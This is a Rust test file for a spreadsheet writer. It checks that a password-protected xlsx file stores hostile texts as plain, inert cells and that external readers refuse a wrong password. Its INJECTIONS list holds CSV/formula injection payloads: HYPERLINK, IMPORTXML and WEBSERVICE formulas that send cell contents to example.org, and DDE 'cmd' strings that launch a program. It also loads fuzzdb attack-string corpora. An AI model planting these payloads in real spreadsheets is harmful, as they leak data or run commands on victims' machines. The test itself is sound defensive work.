//! Other people's programs open our file and find every cell; and hostile texts are nothing but texts to them.

use std::fs::{self, File};
use std::path::{Path, PathBuf};
use std::process::Command;

use super::*;

/// Injections that run something or send a cell away, one for each way to begin a formula.
const INJECTIONS: [&str; 8] = [
    "=HYPERLINK(\"http://example.org/?leak=\"&A1&A2,\"Error: please click\")",
    "=IMPORTXML(CONCAT(\"http://example.org/\", A1), \"//a\")",
    "=WEBSERVICE(\"http://example.org/\"&A1)",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
];

/// Ordinary texts, injections, and every line of the shared attack strings when they are there.
fn texts() -> Vec<String> {
    let ordinary = [
        "Łucja",
        " ends with a space ",
        "two\nlines",
        "a\r\nb",
        "_x0041_",
        "\u{1}\u{1f}",
        "<&>\"'",
        "0800",
        "مريم",
    ];
    let mut texts: Vec<String> = ordinary.iter().chain(&INJECTIONS).map(|text| (*text).to_owned()).collect();
    let data =
        std::env::var_os("CHAPTERHOUSE_SHARED_DATA").map_or("../../../shared/data".into(), PathBuf::from);
    let attacks = data.join("08-security");
    if !attacks.is_dir() {
        println!("skipped: the shared attack strings are not at {}", attacks.display());
    }
    for folder in [
        "csv-injection-payloads",
        "fuzzdb/unicode",
        "fuzzdb/control-chars",
        "fuzzdb/xml",
        "fuzzdb/format-strings",
    ] {
        let mut files: Vec<PathBuf> = fs::read_dir(attacks.join(folder))
            .into_iter()
            .flatten()
            .flatten()
            .map(|entry| entry.path())
            .collect();
        files.sort();
        for file in files.iter().filter(|file| file.is_file()) {
            let content = fs::read(file).unwrap();
            let lines = String::from_utf8_lossy(&content).into_owned();
            texts.extend(
                lines.split('\n').filter(|line| !line.is_empty() && line.len() < 8000).map(str::to_owned),
            );
        }
    }
    texts
}

struct Handed {
    folder: PathBuf,
    file: PathBuf,
    /// As `tests/files/check_xlsx.py` reads it.
    expected: PathBuf,
}

/// A protected file of these texts in a folder of its own.
fn hand_over(name: &str, texts: &[String]) -> Handed {
    let folder = std::env::temp_dir().join(format!("chapterhouse-{name}-{}", std::process::id()));
    fs::create_dir_all(&folder).unwrap();
    let file = folder.join("members.xlsx");
    let mut spool = File::options().read(true).write(true).create_new(true).open(&file).unwrap();
    let hex = |text: &str| text.bytes().map(|byte| format!("{byte:02x}")).collect::<String>();
    let mut expected: Vec<String> =
        vec![COLUMNS.map(|column| format!("T{}", hex(column.heading))).join("\t")];
    write_protected(&mut spool, PASSWORD, &mut random(7), &book(), |rows| {
        for (number, text) in texts.iter().enumerate() {
            let (day, visits) = (date(2024, 2, 29), number as f64 * 1.5 - 3.0);
            rows.row(&[Cell::Text(text), Cell::Date(day), Cell::Number(visits), Cell::Empty])?;
            expected.push(format!("T{}\tD{day}\tN{visits}\tE", hex(text)));
        }
        Ok::<_, Error>(())
    })
    .unwrap();
    let handed = Handed { expected: folder.join("expected"), file, folder };
    fs::write(&handed.expected, expected.join("\n") + "\n").unwrap();
    handed
}

#[test]
fn msoffcrypto_and_openpyxl_read_every_cell_and_refuse_a_wrong_password() {
    let Some(python) = std::env::var_os("CHAPTERHOUSE_TEST_PYTHON") else {
        println!("skipped: CHAPTERHOUSE_TEST_PYTHON names no Python with msoffcrypto-tool and openpyxl");
        return;
    };
    let handed = hand_over("python", &texts());
    let script = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../tests/files/check_xlsx.py");
    let run = Command::new(python)
        .arg(script)
        .arg(&handed.file)
        .arg(PASSWORD)
        .arg(&handed.expected)
        .output()
        .unwrap();
    fs::remove_dir_all(&handed.folder).unwrap();
    assert!(
        run.status.success(),
        "{}{}",
        String::from_utf8_lossy(&run.stdout),
        String::from_utf8_lossy(&run.stderr)
    );
}
